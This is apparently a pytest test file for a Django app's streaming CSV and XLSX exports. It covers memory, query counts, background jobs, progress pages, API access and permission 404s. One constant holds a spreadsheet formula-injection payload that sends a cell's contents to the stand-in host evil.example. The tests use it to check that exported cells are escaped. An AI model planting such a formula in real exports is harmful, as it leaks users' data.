"""Exports in constant memory: a small CSV export streams row by row from a chunked database cursor
(the same file as before: header, cells, formula escaping, BOM), a small XLSX one is written to a
temporary file, a big one of either format is built by a worker with its progress on its page and
in the API; the wrong person still gets 404. The memory itself is measured by bench/exports.py."""

import csv
import io
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import core.spreadsheet
from applications.models import Application, ApplicationState
from core.spreadsheet import cell_safe
from reporting.data import exports, tables
from reporting.data.models import ExportJob
from tests.factories import application_in_state
from tests.reporting.builders import make_grant

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path
    settings.HROMADA_EXPORT_BACKGROUND_ROWS = 50


@pytest.fixture
def submitted(call, grantee_org, grantee):
    return application_in_state(call, grantee_org, grantee, state=ApplicationState.SUBMITTED, title=FORMULA)


def more_applications(app, n, start=0):
    """n more submitted applications like `app` (benchmark-style bulk rows, no transitions)."""
    Application.objects.bulk_create(
        [
            Application(
                call_id=app.call_id,
                organisation_id=app.organisation_id,
                created_by_id=app.created_by_id,
                title=f"+Project {i}" if i % 2 else f"Project {i}",
                reference=f"ADV-B{i:05d}",
                state=ApplicationState.SUBMITTED,
                requested_amount=Decimal("12345.67"),
                cofinancing_amount=Decimal("100"),
                duration_months=12,
                submitted_at=timezone.now() - timedelta(days=i),
            )
            for i in range(start, start + n)
        ]
    )


def whole_file_as_before(user, kind) -> bytes:
    """How the file was made before it streamed: every row in one buffer, BOM first."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([cell_safe(h) for h in tables.EXPORTS[kind].headers()])
    for row in exports.export_rows(user, kind):
        writer.writerow([cell_safe(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def test_a_csv_export_streams_the_same_file_as_before(submitted, call, grantee_org, grantee, manager, client):
    make_grant(call, grantee_org, grantee, title=FORMULA)
    more_applications(submitted, 5)
    client.force_login(manager)
    for kind in exports.EXPORTS:
        response = client.get(reverse("data:export_download", args=[kind, "csv"]))
        if not exports.export_count(manager, kind):  # an empty export says why instead (no header-only file)
            assert response.status_code == 302 and response["Location"] == reverse("data:export_list"), kind
            continue
        assert response.status_code == 200 and isinstance(response, StreamingHttpResponse), kind
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith(f'attachment; filename="hromada-{kind}-')
        body = response.getvalue()
        assert body.startswith(b"\xef\xbb\xbf") and body == whole_file_as_before(manager, kind), kind
    text = client.get(reverse("data:export_download", args=["applications", "csv"])).getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Reference", "Call", "Organisation"]
    assert len(rows) == 1 + 7  # the grant's application, the submitted one and five more
    titles = {row[5] for row in rows[1:]}
    assert "'" + FORMULA in titles and "'+Project 1" in titles and "Project 2" in titles


def test_the_csv_is_sent_while_the_rows_are_read(submitted, manager, client, monkeypatch):
    """Row by row: the first pieces leave before most rows have been fetched."""
    more_applications(submitted, 40)
    monkeypatch.setattr(core.spreadsheet, "CHUNK_CHARS", 100)  # a piece of about one row
    monkeypatch.setattr(exports, "CHUNK_ROWS", 5)
    read = []
    spec = tables.EXPORTS["applications"]

    def row(viewer, r):
        read.append(r[0])
        return spec.row(viewer, r)

    monkeypatch.setitem(tables.EXPORTS, "applications", tables.ExportKind(spec.label, spec.queryset, spec.headers, row))
    client.force_login(manager)
    response = client.get(reverse("data:export_download", args=["applications", "csv"]))
    assert read == []  # nothing read before the response is sent
    pieces = iter(response.streaming_content)
    first = next(pieces) + next(pieces)
    assert first.startswith(b"\xef\xbb\xbfReference,") and 0 < len(read) <= 5
    rest = b"".join(pieces)
    assert len(read) == 41 and (first + rest).decode("utf-8-sig").count("\r\n") == 42


def test_a_streamed_export_runs_the_same_queries_for_few_or_many_rows(submitted, manager, client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 3)  # several chunks of the cursor for the larger size
    client.force_login(manager)
    url = reverse("data:export_download", args=["applications", "csv"])
    client.get(url).getvalue()  # session, roles, caches

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as ctx:
            rows = client.get(url).getvalue().count(b"\r\n") - 1
        return rows, len(ctx.captured_queries)

    few_rows, few = queries()
    more_applications(submitted, 30)
    many_rows, many = queries()
    assert (few_rows, many_rows) == (1, 31) and few == many


def test_the_xlsx_job_writes_a_workbook_with_the_cells_of_the_csv(
    submitted, manager, client, settings, django_capture_on_commit_callbacks
):
    more_applications(submitted, 9)
    settings.HROMADA_EXPORT_BACKGROUND_ROWS = 5
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):  # the worker runs (in-process here)
        response = client.get(reverse("data:export_download", args=["applications", "xlsx"]))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("data:export_job", args=[job.pk])
    assert job.state == ExportJob.State.READY and job.rows_done == job.rows_total == 10
    download = client.get(reverse("data:export_job_download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(download.getvalue())).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    csv_rows = list(csv.reader(io.StringIO(exports.export_render(manager, "applications", "csv").decode("utf-8-sig"))))
    assert cells[0] == csv_rows[0] and len(cells) == len(csv_rows) == 11
    for cell_row, csv_row in zip(cells[1:], csv_rows[1:], strict=True):
        assert ["" if v is None else str(v) for v in cell_row[:7]] == csv_row[:7]  # text and references
        assert Decimal(str(cell_row[7])) == Decimal(csv_row[7])  # amounts stay numbers
        assert abs(cell_row[12] - datetime.fromisoformat(csv_row[12])) < timedelta(seconds=1)  # dates stay dates
    assert "'" + FORMULA in [row[5] for row in cells]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_big_exports_go_to_the_worker_and_small_ones_are_answered_at_once(
    submitted, manager, client, settings, django_capture_on_commit_callbacks
):
    more_applications(submitted, 3)
    client.force_login(manager)
    settings.HROMADA_EXPORT_BACKGROUND_ROWS = 4
    small = client.get(reverse("data:export_download", args=["applications", "xlsx"]))
    assert small.status_code == 200 and isinstance(small, FileResponse)
    assert small["Content-Disposition"].startswith('attachment; filename="hromada-applications-')
    assert load_workbook(io.BytesIO(small.getvalue())).active.max_row == 5
    assert isinstance(client.get(reverse("data:export_download", args=["applications", "csv"])), StreamingHttpResponse)
    assert not ExportJob.objects.exists()
    settings.HROMADA_EXPORT_BACKGROUND_ROWS = 3
    for file_format in ("csv", "xlsx"):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.get(reverse("data:export_download", args=["applications", file_format]))
        assert response.status_code == 302
    assert sorted(ExportJob.objects.values_list("file_format", "state", "rows_total")) == [
        ("csv", "ready", 4),
        ("xlsx", "ready", 4),
    ]
    page = client.get(reverse("data:export_list")).content.decode()
    assert "Exports of more than 3 rows are prepared in the background." in page


def test_the_job_page_and_the_api_show_its_progress(manager, client):
    job = ExportJob.objects.create(
        user=manager, kind="applications", file_format="xlsx", state=ExportJob.State.RUNNING, rows_total=40000
    )
    ExportJob.objects.filter(pk=job.pk).update(rows_done=10000, lease_until=timezone.now() + timedelta(minutes=5))
    client.force_login(manager)
    page = client.get(reverse("data:export_job", args=[job.pk])).content.decode()
    assert "10000 of 40000 rows" in page and 'value="25"' in page
    assert f'hx-get="{reverse("data:export_job", args=[job.pk])}" hx-trigger="every 2s"' in page  # refreshed
    body = client.get(f"/api/v1/export-jobs/{job.pk}/").json()
    assert (body["state"], body["rows_done"], body["rows_total"], body["progress"]) == ("running", 10000, 40000, 25)
    assert body["download_url"] is None and body["available_transitions"] == []


def test_the_api_queues_an_export_and_offers_its_file(
    submitted, manager, grantee, client, django_capture_on_commit_callbacks
):
    more_applications(submitted, 2)
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):  # then the worker runs (in-process here)
        response = client.post(
            "/api/v1/export-jobs/", {"kind": "applications", "file_format": "csv"}, content_type="application/json"
        )
    assert response.status_code == 201, response.content
    queued = response.json()
    assert (queued["state"], queued["rows_done"], queued["rows_total"], queued["progress"]) == ("queued", 0, 3, 0)
    assert queued["download_url"] is None
    body = client.get(f"/api/v1/export-jobs/{queued['id']}/").json()
    assert (body["state"], body["rows_done"], body["rows_total"], body["progress"]) == ("ready", 3, 3, 100)
    download = client.get(body["download_url"])
    assert download.status_code == 200 and download.getvalue().decode("utf-8-sig").count("\r\n") == 4
    assert client.get("/api/v1/export-jobs/").json()["results"][0]["id"] == body["id"]
    bad = client.post(
        "/api/v1/export-jobs/", {"kind": "secrets", "file_format": "csv"}, content_type="application/json"
    )
    assert bad.status_code == 400 and "kind" in bad.json()
    client.force_login(grantee)  # another person's job does not exist for them
    assert client.get(f"/api/v1/export-jobs/{body['id']}/").status_code == 404
    assert client.post(f"/api/v1/export-jobs/{body['id']}/retry/").status_code == 404
    assert client.get("/api/v1/export-jobs/").json()["results"] == []
    assert client.get(reverse("data:export_job_download", args=[body["id"]])).status_code == 404
    client.logout()
    assert client.get(reverse("data:export_download", args=["applications", "csv"])).status_code == 302  # sign in
    assert client.get("/api/v1/export-jobs/").status_code in (401, 403)


def test_a_streamed_export_holds_only_what_its_reader_may_see(submitted, call, manager, outsider, client):
    more_applications(submitted, 3)
    other_org = outsider.organisations.get()
    mine = application_in_state(call, other_org, outsider, state=ApplicationState.SUBMITTED, title="Outsider's own")
    client.force_login(outsider)
    text = client.get(reverse("data:export_download", args=["applications", "csv"])).getvalue().decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text))][1:] == [mine.reference]
    assert client.get(reverse("data:export_download", args=["nothing", "csv"])).status_code == 404


def test_the_call_spreadsheet_streams_in_constant_queries(submitted, manager, client, monkeypatch):
    import applications.exports

    monkeypatch.setattr(applications.exports, "CHUNK_ROWS", 3)
    client.force_login(manager)
    url = f"/manage/calls/{submitted.call_id}/applications/export.csv"
    client.get(url).getvalue()

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
            assert isinstance(response, StreamingHttpResponse)
            rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
        return len(rows) - 1, len(ctx.captured_queries)

    few_rows, few = queries()
    more_applications(submitted, 20)
    many_rows, many = queries()
    assert (few_rows, many_rows) == (1, 21) and few == many
    workbook = client.get(f"/manage/calls/{submitted.call_id}/applications/export.xlsx")
    assert isinstance(workbook, FileResponse) and "filename*=UTF-8''" in workbook["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(workbook.getvalue())).active
    assert sheet.max_row == 22 and sheet.cell(row=2, column=7).value.startswith("'")


def test_on_postgresql_the_rows_come_from_a_server_side_cursor_while_the_file_is_sent(
    postgres, submitted, manager, client, monkeypatch
):
    """Autocommit, as in production: a holdable server-side cursor feeds the response and is closed
    once the file is sent (or the client goes away)."""
    more_applications(submitted, 30)
    monkeypatch.setattr(core.spreadsheet, "CHUNK_CHARS", 100)
    monkeypatch.setattr(exports, "CHUNK_ROWS", 5)

    def open_cursors() -> int:
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors WHERE is_holdable")
            return cursor.fetchone()[0]

    client.force_login(manager)
    for consume_all in (True, False):
        response = client.get(reverse("data:export_download", args=["applications", "csv"]))
        pieces = iter(response.streaming_content)
        next(pieces)
        assert open_cursors() == 1
        if consume_all:
            assert b"".join(pieces).count(b"\r\n") == 30
        response.close()  # the WSGI server closes the response: sent, or the client went away
        assert open_cursors() == 0
